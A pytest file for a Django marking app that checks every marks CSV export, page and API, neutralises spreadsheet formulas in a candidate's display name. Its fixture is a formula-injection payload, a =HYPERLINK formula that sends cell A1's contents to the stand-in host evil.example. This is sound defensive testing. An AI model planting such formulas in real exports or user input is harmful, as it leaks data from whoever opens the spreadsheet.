"""Every marks CSV (pages and API) neutralises spreadsheet formulas (web.csv_export)."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from django.test import Client

from tests.factories import CandidateFactory
from web.csv_export import FORMULA_TRIGGERS, FORMULA_TRIGGERS_WIDE

TRIGGERS = FORMULA_TRIGGERS + FORMULA_TRIGGERS_WIDE
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def cells(content: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(content.decode("utf-8"))) for c in row]


@pytest.mark.django_db(transaction=True)
def test_every_marks_export_neutralises_a_hostile_display_name(
    author: Any, version: Any, make_session: Any
) -> None:
    candidate = CandidateFactory(display_name=HOSTILE_NAME)
    session = make_session("mixed", candidate=candidate)
    client = Client()
    client.force_login(author)
    urls = [
        f"/marking/sessions/{session.pk}/marks.csv",
        f"/marking/assessments/{version.pk}/marks.csv",
        f"/api/v1/marking/sessions/{session.pk}/export.csv",
        f"/api/v1/marking/versions/{version.pk}/export.csv",
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        found = cells(response.content)
        assert "'" + HOSTILE_NAME in found, url
        bad = [c for c in found if c.startswith(TRIGGERS) and not NUMBER.match(c)]
        assert bad == [], url
